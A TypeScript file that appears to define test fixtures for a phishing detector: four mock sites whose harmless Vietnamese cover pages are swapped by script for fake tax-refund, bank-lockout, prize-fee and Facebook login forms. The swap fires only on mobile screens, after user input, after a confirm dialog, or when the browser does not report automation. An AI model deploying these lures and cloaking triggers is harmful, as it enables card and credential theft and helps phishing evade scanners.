import { formBlock } from '../layouts/form.js';
import type { SiteSpec } from '../site.js';
import { behaviour, textPage } from './define.js';

interface ScriptCloak {
  readonly title: string;
  /** What the page says to everybody. */
  readonly cover: string;
  /** HTML that takes the cover's place. */
  readonly lure: string;
  /** Script that calls `hien()` once it believes a person, and the right one, is looking. */
  readonly trigger: string;
}

/** An innocent page whose own script puts another in its place; the bytes on the wire are the innocent ones. */
function uncovering(parts: ScriptCloak): string {
  const script = `<script>function hien(){document.querySelector('main').innerHTML=${JSON.stringify(parts.lure)}}\n${parts.trigger}</script>`;
  return textPage(parts.title, parts.cover, script);
}

/** Client-side cloaks: what shows depends on the screen, the hand, an answered dialog or the browser's fingerprint. */
export const SCRIPT_CLOAKS: readonly SiteSpec[] = [
  behaviour({
    host: 'man-hinh-nho.example',
    category: 'gov_tax',
    layout: 'cloak-mobile',
    note: 'Script xem màn hình cảm ứng và bề ngang: chỉ điện thoại thấy trang hoàn thuế giả',
    pages: {
      '/': uncovering({
        title: 'Mẹo trồng rau trong thùng xốp',
        cover:
          'Đục lỗ đáy thùng, lót xơ dừa, trộn đất với phân trùn quế. Gieo cải thưa tay, tưới sáng và chiều, ba tuần là có rau ăn.',
        lure: `<h1>Hoàn thuế thu nhập cá nhân 2026</h1><p>Bạn được hoàn 4.215.000đ. Hồ sơ hết hiệu lực trong hôm nay, nhập thẻ để nhận tiền.</p>${formBlock(
          {
            action: '/nhan.php',
            fields: [
              { name: 'sothe', label: 'Số thẻ nhận hoàn thuế' },
              { name: 'cvv', label: 'CVV', type: 'password' },
              { name: 'otp', label: 'Mã OTP' },
            ],
            button: 'NHẬN TIỀN HOÀN THUẾ',
          },
        )}`,
        trigger: "if('ontouchstart' in window&&innerWidth<600)hien();",
      }),
    },
  }),
  behaviour({
    host: 'doi-tay-nguoi.example',
    category: 'bank_brand',
    layout: 'cloak-pointer',
    note: 'Chỉ hiện trang ngân hàng giả sau khi chuột di, màn hình chạm hay cuộn',
    pages: {
      '/': uncovering({
        title: 'Lịch thi đấu cờ làng',
        cover: 'Vòng loại diễn ra sáng chủ nhật tại sân đình. Kỳ thủ mang theo bàn cờ nếu có.',
        lure: `<h1>Tài khoản ngân hàng số của bạn bị tạm khóa</h1><p>Phát hiện đăng nhập trên thiết bị lạ. Xác thực lại trong 30 phút để tránh mất tiền.</p>${formBlock(
          {
            action: '/xac-thuc.php',
            fields: [
              { name: 'user', label: 'Tên đăng nhập ngân hàng số' },
              { name: 'pass', label: 'Mật khẩu', type: 'password' },
              { name: 'otp', label: 'Mã OTP' },
            ],
            button: 'MỞ KHÓA NGAY',
          },
        )}`,
        trigger:
          "['mousemove','touchstart','scroll'].forEach(function(e){addEventListener(e,hien,{once:true})});",
      }),
    },
  }),
  behaviour({
    host: 'bam-dong-y.example',
    category: 'shop_fake',
    layout: 'cloak-dialog',
    note: 'Hỏi bằng hộp thoại của trình duyệt; bấm đồng ý mới thấy trang trúng thưởng giả',
    pages: {
      '/': uncovering({
        title: 'Cách gấp thiệp tay',
        cover: 'Chọn giấy bìa dày, gấp đôi, miết thẳng nếp rồi cắt hoa văn theo mẫu in sẵn.',
        lure: `<h1>Chúc mừng! Bạn trúng xe máy tri ân khách hàng</h1><p>Mã dự thưởng 88. Chuyển 1.900.000đ phí hồ sơ và thuế nhận giải trong 2 giờ, quá hạn giải thưởng bị hủy.</p>${formBlock(
          {
            action: '/trung-thuong.php',
            fields: [
              { name: 'hoten', label: 'Họ tên người trúng giải' },
              { name: 'sdt', label: 'Số điện thoại', type: 'tel' },
              { name: 'stk', label: 'Số tài khoản' },
            ],
            button: 'NHẬN GIẢI',
          },
        )}`,
        trigger:
          "setTimeout(function(){if(confirm('Bạn có phải là khách hàng may mắn hôm nay?'))hien()},300);",
      }),
    },
  }),
  behaviour({
    host: 'dau-van-trinhduyet.example',
    category: 'cred_social',
    layout: 'cloak-fingerprint',
    note: 'Đọc dấu vết trình duyệt (webdriver, số nhân, ngôn ngữ) để tránh máy tự động',
    pages: {
      '/': uncovering({
        title: 'Bảng chữ cái cho bé',
        cover:
          'In ra, dán lên tường, mỗi ngày cùng bé đọc ba chữ và tìm đồ vật bắt đầu bằng chữ ấy.',
        lure: `<h1>Nhà quảng cáo: trang của bạn vi phạm bản quyền</h1><p>Trang sẽ bị xóa vĩnh viễn sau 24 giờ. Đăng nhập Facebook để khiếu nại.</p>${formBlock(
          {
            action: '/khieu-nai.php',
            fields: [
              { name: 'email', label: 'Email hoặc điện thoại Facebook' },
              { name: 'pass', label: 'Mật khẩu Facebook', type: 'password' },
              { name: 'hailop', label: 'Mã xác thực hai lớp' },
            ],
            button: 'GỬI KHIẾU NẠI',
          },
        )}`,
        trigger:
          'if(!navigator.webdriver&&navigator.hardwareConcurrency>1&&/^vi/.test(navigator.language))hien();',
      }),
    },
  }),
];
